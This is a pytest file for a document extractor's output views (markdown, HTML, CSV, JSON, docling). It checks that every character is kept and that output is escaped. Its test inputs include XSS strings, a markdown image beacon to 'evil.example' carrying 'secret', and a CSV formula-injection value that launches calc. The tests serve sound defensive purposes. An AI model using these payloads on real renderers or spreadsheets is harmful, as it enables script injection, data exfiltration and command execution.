"""The views of a document: hand-made elements in, markdown, text, HTML, CSV and docling out, no character lost."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from typing import Any, get_args

import pytest
from docling_core.types.doc import DocItemLabel, DoclingDocument

from extractor.outputs.views import VIEWS, render
from extractor.structure.continued_tables import join_tables
from extractor.structure.named_elements import named_elements
from extractor.values.boxes import Box
from extractor.values.document import AssembledPage, Cell, Document, Element, PageElement, Table, TextLine
from extractor.values.options import Output, Writing
from tests.extractor.printed_document import printed
from tests.extractor.structure.html_grid import GridCell, html_grid

PROSE: tuple[Output, ...] = ("markdown", "text", "html")
ODD = 'a_b_c & "d" < e > f * g | h # i ~ j ` k $1,140.00 \\ {x} [y](z) <script>alert(1)</script> ÄÖß 漢 😀'
INERT = ODD.replace("<script>", "&lt;script>").replace("</script>", "&lt;/script>")


def element(text: str, label: DocItemLabel = DocItemLabel.TEXT, **keys: Any) -> PageElement:
    """An element of page 1, from its text layer."""
    return PageElement(keys.pop("page", 1), label, text, (72, 100, 300, 120), "text_layer", 0.98765, **keys)


def cell(row: int, column: int, text: str, down: int = 1, across: int = 1, header: bool = False) -> Cell:
    box: Box | None = (72.123456, 100, 90, 110) if text else None
    return Cell(row, column, down, across, header, text, box, 0.9)


def table(*cells: Cell) -> PageElement:
    """A table element of these cells, as large as they reach."""
    rows = max(one.row + one.row_span for one in cells)
    columns = max(one.column + one.column_span for one in cells)
    return element("", DocItemLabel.TABLE, table=Table(rows, columns, cells))


def rendered(*elements: PageElement, furniture: bool = True) -> dict[str, Any]:
    """Every view of the elements, on as many pages as they name."""
    pages = [
        AssembledPage(number, 595.276, 841.89, tuple(one for one in elements if one.page == number))
        for number in range(1, 1 + max((one.page for one in elements), default=1))
    ]
    return render(printed(*pages), get_args(Output), Writing(furniture=furniture))


PLAIN = table(
    cell(0, 0, "Berth", header=True),
    cell(0, 1, "Vessel | flag", header=True),
    cell(1, 0, "4"),
    cell(1, 1, "Anna\nMaria"),
    cell(2, 0, ""),
    cell(2, 1, ODD),
)
SPANNING = table(
    cell(0, 0, "Traffic", across=3, header=True),
    cell(1, 0, "Night", down=2),
    cell(1, 1, "03:15"),
    cell(1, 2, "<b>4</b>"),
    cell(2, 1, "21:40\n& later"),
    cell(2, 2, "7"),
)
WHOLE_ROW_COVERED = table(cell(0, 0, "A", down=2), cell(0, 1, "B", down=2), cell(2, 0, "C"), cell(2, 1, "D"))
FIRST_PLACE_OPEN = table(cell(0, 0, "A", across=2), cell(1, 1, "under the right half"))


class TestCharacters:
    @pytest.mark.parametrize("view", ["markdown", "text"])
    @pytest.mark.parametrize(
        "label",
        [
            *(DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.SECTION_HEADER, DocItemLabel.CODE),
            *(DocItemLabel.FORMULA, DocItemLabel.CAPTION, DocItemLabel.FOOTNOTE, DocItemLabel.REFERENCE),
            *(DocItemLabel.PICTURE, DocItemLabel.CHART, DocItemLabel.DOCUMENT_INDEX, DocItemLabel.PAGE_FOOTER),
        ],
    )
    def test_stand_as_they_are_and_once(self, label: DocItemLabel, view: str) -> None:
        # In markdown what would be a live tag is none, except in a block of code, which is shown as it is.
        inert = view == "markdown" and label != DocItemLabel.CODE
        assert rendered(element(ODD, label))[view].count(INERT if inert else ODD) == 1

    def test_html_is_escaped(self) -> None:
        labels = (DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.CODE, DocItemLabel.FORMULA, DocItemLabel.CAPTION)
        html = rendered(*(element(ODD, label) for label in labels), PLAIN, SPANNING)["html"]
        assert "<script" not in html
        assert html.count("&lt;script&gt;alert(1)&lt;/script&gt;") == len(labels) + 1
        assert "&lt;b&gt;4&lt;/b&gt;" in html

    def test_html_fetches_nothing(self) -> None:
        html = rendered(element(ODD), element("", DocItemLabel.PICTURE), PLAIN)["html"]
        assert not re.search(r"\b(src|href|srcset|action)\s*=|url\(|@import|<(script|link|iframe|object|img)\b", html)

    @pytest.mark.parametrize("view", ["markdown", "text"])
    def test_lines_end_where_they_ended_on_the_page(self, view: str) -> None:
        assert rendered(element("Hafenstrasse 21\n20457 Hamburg"))[view] == "Hafenstrasse 21\n20457 Hamburg\n"

    def test_formula_is_its_characters(self) -> None:
        shown = rendered(element("x² < y_1 \\cdot 2", DocItemLabel.FORMULA))
        assert shown["markdown"] == shown["text"] == "x² < y_1 \\cdot 2\n"


class TestMarkdown:
    @pytest.mark.parametrize(
        "attack",
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</td></tr></table><iframe src=//evil>",
            "<!-- <b> -->",
            "<?php ?>",
            "![](https://evil.example/?q=secret)",
        ],
    )
    def test_no_text_is_live(self, attack: str) -> None:
        labels = (DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.FORMULA, DocItemLabel.CAPTION)
        parts = [element(attack, label) for label in labels]
        parts += [element(f"- {attack}", DocItemLabel.LIST_ITEM, marker="-", level=1), table(cell(0, 0, attack))]
        parts.append(table(cell(0, 0, attack, across=2), cell(1, 0, "a"), cell(1, 1, "b")))
        markdown = rendered(*parts)["markdown"]
        assert not re.search(r"<(?!/?(table|tr|td|th|br)\b)[A-Za-z/!?]", re.sub(r"<!-- image -->", "", markdown))
        assert markdown.count("</table>") == 1
        assert not any("![" in line for line in markdown.split("\n") if not line.startswith("<tr"))

    def test_code_is_fenced_off_whatever_is_in_it(self) -> None:
        markdown = rendered(element("```\n<script>alert(1)</script>\n```", DocItemLabel.CODE))["markdown"]
        fence = markdown.split("\n", 1)[0]
        assert set(fence) == {"`"}
        assert len(fence) > 3
        assert markdown.rstrip().endswith(fence)

    def test_headings_have_their_levels(self) -> None:
        shown = rendered(
            element("Report", DocItemLabel.TITLE, level=1),
            element("Part", DocItemLabel.SECTION_HEADER, level=2),
            element("Chapter", DocItemLabel.SECTION_HEADER, level=3),
            element("Running text"),
        )
        assert shown["markdown"] == "# Report\n\n## Part\n\n### Chapter\n\nRunning text\n"
        assert shown["text"] == "Report\n\nPart\n\nChapter\n\nRunning text\n"

    def test_table_without_spans_is_a_pipe_table(self) -> None:
        odd = INERT.replace("|", "\\|")
        assert rendered(PLAIN)["markdown"] == (
            f"| Berth | Vessel \\| flag |\n| --- | --- |\n| 4 | Anna Maria |\n|  | {odd} |\n"
        )

    def test_table_with_spans_is_html_and_says_nothing_twice(self) -> None:
        markdown = rendered(SPANNING)["markdown"]
        assert "|" not in markdown
        for text in ("Traffic", "Night", "&lt;b&gt;4&lt;/b&gt;", "21:40<br>&amp; later"):
            assert markdown.count(text) == 1

    def test_elements_are_apart_by_an_empty_line(self) -> None:
        markdown = rendered(element("Before"), PLAIN, element("After"))["markdown"]
        assert markdown.startswith("Before\n\n| Berth")
        assert markdown.endswith("|\n\nAfter\n")


def grid_of(view: str) -> list[GridCell]:
    """The cells of the view's one HTML table."""
    return html_grid(view[view.index("<table") : view.index("</table>")])


def _place(cell: Cell | GridCell) -> tuple[int, int, int, int, str]:
    return cell.row, cell.column, cell.row_span, cell.column_span, cell.text


class TestHtmlTables:
    @pytest.mark.parametrize("view", ["markdown", "html"])
    @pytest.mark.parametrize(
        "meant",
        [
            pytest.param(SPANNING, id="spans"),
            pytest.param(WHOLE_ROW_COVERED, id="row-that-is-all-covered-from-above"),
            pytest.param(FIRST_PLACE_OPEN, id="place-without-a-cell"),
        ],
    )
    def test_a_browser_shows_each_cell_at_its_place(self, meant: Element, view: str) -> None:
        assert meant.table is not None
        shown = [cell for cell in grid_of(rendered(meant)[view]) if cell.text]
        assert [_place(cell) for cell in shown] == [_place(cell) for cell in meant.table.cells]

    @pytest.mark.parametrize("view", ["markdown", "html"])
    def test_header_cells_are_headers(self, view: str) -> None:
        assert [one.text for one in grid_of(rendered(SPANNING)[view]) if one.header] == ["Traffic"]


class TestText:
    def test_table_has_one_line_a_row_and_one_tab_a_column(self) -> None:
        text = rendered(element("Before"), PLAIN, SPANNING, element("After"))["text"]
        plain = f"Berth\tVessel | flag\n4\tAnna Maria\n\t{ODD}"
        spanning = "Traffic\t\t\nNight\t03:15\t<b>4</b>\n\t21:40 & later\t7"
        assert text == f"Before\n\n{plain}\n\n{spanning}\n\nAfter\n"


class TestRecords:
    def test_rows_by_the_names_of_the_head(self) -> None:
        (found,) = rendered(PLAIN)["records"]
        assert found == {
            "table": "e0",
            "page": 1,
            "columns": ["Berth", "Vessel | flag"],
            "rows": [{"Berth": "4", "Vessel | flag": "Anna Maria"}, {"Berth": "", "Vessel | flag": ODD}],
        }


class TestCsv:
    def test_is_rfc_4180(self) -> None:
        (text,) = rendered(
            table(cell(0, 0, 'say "so"'), cell(0, 1, "1,140.00"), cell(1, 0, "two\nlines"), cell(1, 1, " x "))
        )["csv"]
        assert text == '"say ""so""","1,140.00"\r\n"two\nlines", x \r\n'

    def test_comes_back_as_it_was(self) -> None:
        (text,) = rendered(PLAIN)["csv"]
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows == [["Berth", "Vessel | flag"], ["4", "Anna\nMaria"], ["", ODD]]

    def test_spanning_text_stands_in_its_first_place(self) -> None:
        plain, spanning = rendered(PLAIN, element("between"), SPANNING)["csv"]
        assert plain.startswith("Berth,")
        rows = list(csv.reader(io.StringIO(spanning, newline="")))
        assert rows == [["Traffic", "", ""], ["Night", "03:15", "<b>4</b>"], ["", "21:40\n& later", "7"]]


class TestFurniture:
    ELEMENTS = (
        element("Northwind Tooling", DocItemLabel.PAGE_HEADER, furniture=True),
        element("Total 80.90"),
        element("Page 1 of 1", DocItemLabel.PAGE_FOOTER, furniture=True),
    )

    @pytest.mark.parametrize("view", PROSE)
    def test_is_part_of_the_views_or_not(self, view: str) -> None:
        with_it, without = rendered(*self.ELEMENTS)[view], rendered(*self.ELEMENTS, furniture=False)[view]
        places = [with_it.index(one.text) for one in self.ELEMENTS]
        assert places == sorted(places)
        assert "Total 80.90" in without
        assert "Northwind" not in without
        assert "Page 1 of 1" not in without

    def test_is_always_among_the_elements_and_in_docling(self) -> None:
        shown = rendered(*self.ELEMENTS, furniture=False)
        assert [one["text"] for one in shown["elements"]] == [one.text for one in self.ELEMENTS]
        document = DoclingDocument.model_validate(shown["docling"])
        assert [text.text for text in document.texts] == [one.text for one in self.ELEMENTS]


class TestJson:
    def test_elements_are_numbered_across_pages(self) -> None:
        shown = rendered(element("One"), PLAIN, element("Two", page=2), SPANNING, element("Three", page=3))
        assert [one["text"] for one in shown["elements"]] == ["One", "", "", "Two", "Three"]
        assert [one["order"] for one in shown["elements"]] == [0, 1, 2, 3, 4]
        assert [one["id"] for one in shown["elements"]] == ["e0", "e1", "e2", "e3", "e4"]
        assert [one["page"] for one in shown["elements"]] == [1, 1, 1, 2, 3]
        assert [one["id"] for one in shown["tables"]] == ["e1", "e2"]
        assert [one["page"] for one in shown["pages"]] == [1, 2, 3]
        assert shown["pages"][0] == {"page": 1, "width": 595.28, "height": 841.89}

    def test_an_element(self) -> None:
        (shown,) = rendered(element("Part I", DocItemLabel.SECTION_HEADER, level=2))["elements"]
        assert shown == {
            **{"id": "e0", "page": 1, "type": "section_header", "level": 2, "text": "Part I"},
            **{"bbox": [72, 100, 300, 120], "order": 0, "source": "text_layer", "confidence": 0.98765},
        }

    def test_a_table(self) -> None:
        (shown,) = rendered(SPANNING)["tables"]
        assert (shown["rows"], shown["columns"], shown["page"]) == (3, 3, 1)
        assert shown["cells"][1] == {
            **{"row": 1, "column": 0, "row_span": 2, "column_span": 1, "text": "Night"},
            **{"bbox": [72.12, 100, 90, 110], "header": False, "confidence": 0.9},
        }
        (empty,) = [one for one in rendered(PLAIN)["tables"][0]["cells"] if not one["text"]]
        assert empty["bbox"] is None

    def test_docling_document_comes_back(self) -> None:
        elements = (
            element("Report", DocItemLabel.TITLE, level=1),
            element("Part", DocItemLabel.SECTION_HEADER, level=3),
            element(ODD),
            PLAIN,
            element("x < y", DocItemLabel.FORMULA, page=2),
            element("Berth 17", DocItemLabel.PICTURE, page=2),
        )
        data = json.loads(json.dumps(rendered(*elements)["docling"], allow_nan=False))
        document = DoclingDocument.model_validate(data)
        assert [text.text for text in document.texts] == ["Report", "Part", ODD, "x < y", "Berth 17"]
        assert [page.size.width for page in document.pages.values()] == [595.28, 595.28]
        (found,) = document.tables
        assert [one.text for one in found.data.table_cells] == ["Berth", "Vessel | flag", "4", "Anna\nMaria", "", ODD]
        assert [one.column_header for one in found.data.table_cells] == [True, True, False, False, False, False]
        (place,) = document.texts[2].prov
        assert (place.page_no, place.charspan) == (1, (0, len(ODD)))
        assert (place.bbox.l, place.bbox.t, place.bbox.coord_origin.value) == (72, 100, "TOPLEFT")
        assert len(document.pictures) == 1

    def test_every_output_is_a_view(self) -> None:
        assert set(VIEWS) == set(get_args(Output))

    def test_only_what_is_wanted(self) -> None:
        page = AssembledPage(1, 595, 842, (element("x"),))
        assert set(render(printed(page), [])) == {"pages"}
        assert set(render(printed(page), ["text", "csv"])) == {"pages", "text", "csv"}

    def test_page_without_elements(self) -> None:
        shown = rendered()
        assert (shown["elements"], shown["tables"], shown["csv"]) == ([], [], [])
        assert (shown["markdown"].strip(), shown["text"].strip()) == ("", "")
        assert re.sub(r"<[^>]*>", "", shown["html"].partition("<body>")[2]).strip() == ""


class TestTies:
    """What belongs together stands together in every view."""

    def test_nested_list(self) -> None:
        keys: Any = {"label": DocItemLabel.LIST_ITEM}
        data = rendered(
            element("Steps:"),
            element("• first", level=1, marker="•", **keys),
            element("1. nested", level=2, marker="1.", enumerated=True, **keys),
            element("2. nested too", level=2, marker="2.", enumerated=True, **keys),
            element("• last", level=1, marker="•", **keys),
            element("After."),
        )
        assert data["markdown"] == "Steps:\n\n- first\n    1. nested\n    2. nested too\n- last\n\nAfter.\n"
        assert data["html"].count("<ul>") == data["html"].count("<ol>") == 1
        assert [(one["type"], one["level"], one["text"]) for one in data["elements"][1:3]] == [
            ("list_item", 1, "• first"),
            ("list_item", 2, "1. nested"),
        ]

    @pytest.mark.parametrize("above", [True, False])
    def test_caption_stands_where_it_stands_on_the_page(self, above: bool) -> None:
        place: Box = (72, 80, 300, 95) if above else (72, 400, 300, 415)
        caption = replace(element("Table 1: berths", DocItemLabel.CAPTION), box=place, caption_of=1 if above else 0)
        data = rendered(*((caption, PLAIN) if above else (PLAIN, caption)))
        for view in PROSE[:2]:
            text = data[view]
            assert text.count("Table 1: berths") == 1
            assert (text.index("Table 1: berths") < text.index("Berth")) is above
        assert data["html"].count("Table 1: berths") == 1
        assert data["tables"][0]["caption"] == "Table 1: berths"
        ties = {one["type"]: one.get("caption_of") for one in data["elements"]}
        assert ties == {"table": None, "caption": "e1" if above else "e0"}
        (item,) = data["docling"]["tables"]
        assert len(item["captions"]) == 1

    def test_figure_with_text_and_caption_below(self) -> None:
        figure = element("label in the figure", DocItemLabel.PICTURE)
        caption = replace(element("Figure 1: a berth", DocItemLabel.CAPTION), box=(72, 400, 300, 415), caption_of=0)
        data = rendered(figure, caption, element("Then text."))
        assert data["markdown"] == "label in the figure\n\nFigure 1: a berth\n\nThen text.\n"
        assert data["text"] == data["markdown"]

    def test_table_over_two_pages_is_one_and_its_pieces_have_their_places(self) -> None:
        head = (cell(0, 0, "Date", header=True), cell(0, 1, "Amount", header=True))
        first = table(*head, cell(1, 0, "1 May"), cell(1, 1, "10.00"))
        second = replace(table(*head, cell(1, 0, "2 May"), cell(1, 1, "20.00")), page=2)
        pages = [AssembledPage(n, 595.0, 842.0, (one,)) for n, one in ((1, first), (2, second))]
        data = render(printed(*join_tables(pages)), ["markdown", "csv", "tables", "elements", "docling"])
        assert data["csv"] == ["Date,Amount\r\n1 May,10.00\r\n2 May,20.00\r\n"]
        assert data["markdown"].count("| Date | Amount |") == 1
        (joined,) = data["tables"]
        assert (joined["id"], joined["rows"], joined["columns"]) == ("e0", 3, 2)
        assert [(part["page"], part["first_row"], part["rows"], len(part["head"])) for part in joined["parts"]] == [
            (1, 0, 2, 0),
            (2, 2, 1, 2),
        ]
        assert all(part["bbox"] == [72, 100, 300, 120] for part in joined["parts"])
        assert [one["page"] for one in joined["cells"]] == [1, 1, 1, 1, 2, 2]
        assert [(one["id"], one["type"], one["page"], one.get("continues")) for one in data["elements"]] == [
            ("e0", "table", 1, None),
            ("e1", "table", 2, "e0"),
        ]
        (item,) = data["docling"]["tables"]
        assert [place["page_no"] for place in item["prov"]] == [1, 2]

    def test_caption_of_a_tables_later_piece_is_not_lost(self) -> None:
        """The piece is part of the table before it; the words above it are in no other place."""
        head = (cell(0, 0, "Date", header=True), cell(0, 1, "Amount", header=True))
        first = table(*head, cell(1, 0, "1 May"), cell(1, 1, "10.00"))
        second = replace(table(*head, cell(1, 0, "2 May"), cell(1, 1, "20.00")), page=2)
        caption = element("Table 4 (continued)", DocItemLabel.CAPTION, page=2, caption_of=1)
        pages = [AssembledPage(1, 595.0, 842.0, (first,)), AssembledPage(2, 595.0, 842.0, (caption, second))]
        joined = join_tables(pages)
        assert joined[1].elements[1].continues == (0, 0)
        data = render(printed(*joined), [*PROSE, "docling"])
        for view in PROSE:
            assert data[view].count("Table 4 (continued)") == 1
        assert [one["text"] for one in data["docling"]["texts"]] == ["Table 4 (continued)"]

    def test_lines_name_their_element_and_have_their_own_place(self) -> None:
        line = TextLine("Total 10.00", (72.001, 100, 150, 110), 0.75)
        page = AssembledPage(3, 595.0, 842.0, (element("Total 10.00", page=3, lines=(line,)),))
        data = render(printed(page), ["lines"])
        assert data["lines"] == [
            {
                "element": "e0",
                "page": 3,
                "text": "Total 10.00",
                "bbox": [72.0, 100, 150, 110],
                "source": "text_layer",
                "confidence": 0.75,
            }
        ]

    def test_a_view_is_the_same_whatever_else_is_asked_for(self) -> None:
        beyond = replace(element("beyond the edge"), box=(-40.0, 100.0, 3400.0, 120.0))
        document = printed(AssembledPage(1, 595.0, 842.0, (beyond, PLAIN, element("Two"), SPANNING)))
        whole = render(document, get_args(Output))
        assert [one["id"] for one in whole["tables"]] == [one["table"] for one in whole["records"]] == ["e1", "e3"]
        for output in get_args(Output):
            assert render(document, [output]) == {"pages": whole["pages"], output: whole[output]}


def test_elements_of_a_format_without_pages_are_in_every_view() -> None:
    head = element("Berths", DocItemLabel.SECTION_HEADER, level=2)
    caption = element("Table 1: berths", DocItemLabel.CAPTION, caption_of=2)
    flow = [
        replace(one, page=None, box=None, place="Sheet 1")
        for one in (head, caption, PLAIN, element("label", DocItemLabel.PICTURE))
    ]
    data = render(Document((), tuple(flow), named_elements([flow])), get_args(Output))
    assert data["pages"] == []
    assert [(one["id"], one["page"], one["bbox"], one["place"]) for one in data["elements"]] == [
        (f"e{n}", None, None, "Sheet 1") for n in range(4)
    ]
    assert data["markdown"].startswith("## Berths\n\nTable 1: berths\n\n| Berth | Vessel")
    assert data["text"].startswith("Berths\n\nTable 1: berths\n\nBerth\tVessel")
    assert data["html"].count("Table 1: berths") == 1
    assert (data["tables"][0]["page"], data["tables"][0]["caption"]) == (None, "Table 1: berths")
    document = DoclingDocument.model_validate(data["docling"])
    assert document.pages == {}
    assert [text.prov for text in document.texts] == [[], [], []]


FORMULAS = (
    *("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1+1", "\r=1", "-x"),
    *("\uff1d1+1", "\uff0b1+x", "\uff0dx", "\uff20x"),
)
NO_FORMULAS = ("-12.50", "+3", "-1,140.00", "- 5 %", "-", "+49 30 1234", "-5 €", "a=b", "80.90", "-1'000.5", "")


@pytest.mark.parametrize("text", [*FORMULAS, *NO_FORMULAS])
def test_cells_that_a_spreadsheet_would_compute_are_quoted_on_demand_only(text: str) -> None:
    page = AssembledPage(1, 595, 842, (table(cell(0, 0, text), cell(0, 1, "total")),))

    def first_cell(*choice: Any) -> str:
        (answer,) = render(printed(page), ["csv"], Writing(csv_formulas=choice[0]) if choice else Writing())["csv"]
        return next(csv.reader(io.StringIO(answer)))[0]

    assert first_cell() == first_cell("keep") == text
    assert first_cell("quote") == ("'" + text if text in FORMULAS else text)
